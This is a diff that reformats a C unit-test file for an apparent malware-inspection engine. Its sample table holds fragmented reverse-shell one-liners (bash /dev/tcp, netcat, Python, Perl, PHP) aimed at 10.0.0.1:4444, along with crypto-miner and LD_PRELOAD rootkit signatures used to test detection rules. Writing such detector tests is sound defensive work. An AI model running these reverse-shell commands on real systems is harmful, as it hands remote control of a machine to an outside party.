@@ -44,15 +44,32 @@ static const struct sample {
 	{NULL, "/x", "#!/bin/bash\nexec 5<>/dev/t", 0, {"cp/10.0.0.1/80\necho GET / >&5\ncat <&5\n"}},
 	{NULL, "/notes.txt", "bash -i >& /dev/t", 0, {"cp/10.0.0.1/4444 0>&1 is what to look for\n"}},
 	{"reverse_shell_netcat", "/x", "#!/bin/sh\nnc -e /bin", 0, {"/sh 10.0.0.1 4444\n"}},
-	{"reverse_shell_netcat", "/x", "#!/bin/sh\nrm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | ", 0, {"nc 10.0.0.1 4444 > /tmp/f\n"}},
+	{"reverse_shell_netcat",
+	 "/x",
+	 "#!/bin/sh\nrm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | ",
+	 0,
+	 {"nc 10.0.0.1 4444 > /tmp/f\n"}},
 	{NULL, "/x", "#!/bin/sh\nnc -z localhost 80 && sh /usr/bin/done\n", 0, {""}},
-	{"reverse_shell_interpreter", "/x", "#!/usr/bin/python3\nimport socket,os,pty\ns=socket.socket()\ns.connect((\"10.0.0.1\",4444))\n", 0,
+	{"reverse_shell_interpreter",
+	 "/x",
+	 "#!/usr/bin/python3\nimport socket,os,pty\ns=socket.socket()\ns.connect((\"10.0.0.1\",4444))\n",
+	 0,
 	 {"os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\n", "pty.spawn(\"/bin/bash\")\n"}},
-	{NULL, "/x", "#!/usr/bin/python3\nimport socket,subprocess\ns=socket.socket()\ns.connect((\"10.0.0.1\",4444))\n", 0,
+	{NULL,
+	 "/x",
+	 "#!/usr/bin/python3\nimport socket,subprocess\ns=socket.socket()\ns.connect((\"10.0.0.1\",4444))\n",
+	 0,
 	 {"subprocess.run([\"/bin/sh\", \"-c\", \"true\"])\n"}},
-	{"reverse_shell_interpreter", "/x", "#!/usr/bin/perl\nuse Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,\">&S\");", 0,
+	{"reverse_shell_interpreter",
+	 "/x",
+	 "#!/usr/bin/perl\nuse Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,\">&S\");",
+	 0,
 	 {"open(STDOUT,\">&S\");exec(\"/bin/sh -i\");\n"}},
-	{"reverse_shell_interpreter", "/x", "<?php $s=fsockopen(\"10.0.0.1\",4444);", 0, {"exec(\"sh -i <&3 >&3 2>&3\");"}},
+	{"reverse_shell_interpreter",
+	 "/x",
+	 "<?php $s=fsockopen(\"10.0.0.1\",4444);",
+	 0,
+	 {"exec(\"sh -i <&3 >&3 2>&3\");"}},
 	{NULL, "/x", "<?php $s=fsockopen(\"10.0.0.1\",25); fwrite($s, \"HELO\");", 0, {""}},
 
 	{"miner", "/x", ELF, 16, {"stratum+", "tcp://pool:3333 mining.", "subscribe mining.", "authorize"}},
@@ -60,9 +77,17 @@ static const struct sample {
 	{NULL, "/x", ELF, 16, {"stratum+", "tcp://pool:3333"}},
 	{NULL, "/readme", "stratum+", 0, {"tcp://pool:3333 mining.", "subscribe mining.", "authorize"}},
 
-	{"preload_rootkit", "/x", ELF "\3\0", 18, {"/etc/ld.so.pre", "load readdir readdir64 dlsym /proc/net/", "tcp fopen64 ", "unlinkat"}},
+	{"preload_rootkit",
+	 "/x",
+	 ELF "\3\0",
+	 18,
+	 {"/etc/ld.so.pre", "load readdir readdir64 dlsym /proc/net/", "tcp fopen64 ", "unlinkat"}},
 	{NULL, "/x", ELF "\3\0", 18, {"/etc/ld.so.pre", "load"}},
-	{NULL, "/x", ELF "\2\0", 18, {"/etc/ld.so.pre", "load readdir readdir64 dlsym /proc/net/", "tcp fopen64 ", "unlinkat"}},
+	{NULL,
+	 "/x",
+	 ELF "\2\0",
+	 18,
+	 {"/etc/ld.so.pre", "load readdir readdir64 dlsym /proc/net/", "tcp fopen64 ", "unlinkat"}},
 
 	{"packed_in_temporary_folder", "/tmp/x", ELF, 16, {"UP", "X!"}},
 	{"packed_in_temporary_folder", "/dev/shm/a/b", ELF, 16, {"UP", "X!"}},
@@ -92,8 +117,8 @@ static void test_samples(void **state)
 		size_t size = make(&samples[i], bytes, sizeof(bytes));
 		inspect_bytes(inspect, bytes, size, samples[i].path, now_ns() + UINT64_C(60000000000), &result);
 		if (result.outcome != (samples[i].rule ? INSPECT_MATCH : INSPECT_CLEAN))
-			fail_msg("sample %zu (%s): outcome %u, rule \"%s\"", i, samples[i].rule ? samples[i].rule : "harmless",
-				 result.outcome, result.rule);
+			fail_msg("sample %zu (%s): outcome %u, rule \"%s\"", i,
+				 samples[i].rule ? samples[i].rule : "harmless", result.outcome, result.rule);
 		assert_string_equal(result.rule, samples[i].rule ? samples[i].rule : "");
 	}
 }
@@ -132,7 +157,8 @@ static unsigned look_at_folder(const char *path, unsigned most, unsigned *matche
 		_cleanup_(closep) int fd = open(name, O_RDONLY | O_CLOEXEC);
 		if (fd < 0)
 			continue;
-		inspect_file(inspect, &(struct inspect_job){.path = name, .fd = fd, .stop_ns = now_ns() + UINT64_C(60000000000)},
+		inspect_file(inspect,
+			     &(struct inspect_job){.path = name, .fd = fd, .stop_ns = now_ns() + UINT64_C(60000000000)},
 			     &result);
 		n++;
 		if (result.outcome == INSPECT_CLEAN)
@@ -148,8 +174,9 @@ static unsigned look_at_folder(const char *path, unsigned most, unsigned *matche
 /* Nothing of this machine is found, and nothing of it costs the cache. */
 static void test_this_machine(void **state)
 {
-	static const char *const folders[] = {"/usr/bin", "/usr/sbin", "/usr/lib/x86_64-linux-gnu", "/usr/share/bash-completion/completions",
-					      "/etc", "/usr/lib/python3.11"};
+	static const char *const folders[] = {
+		"/usr/bin", "/usr/sbin",          "/usr/lib/x86_64-linux-gnu", "/usr/share/bash-completion/completions",
+		"/etc",     "/usr/lib/python3.11"};
 	unsigned n = 0, matches = 0;
 	for (size_t i = 0; i < ARRAY_SIZE(folders); i++)
 		n += look_at_folder(folders[i], SYSTEM_FILES_MAX / ARRAY_SIZE(folders), &matches);
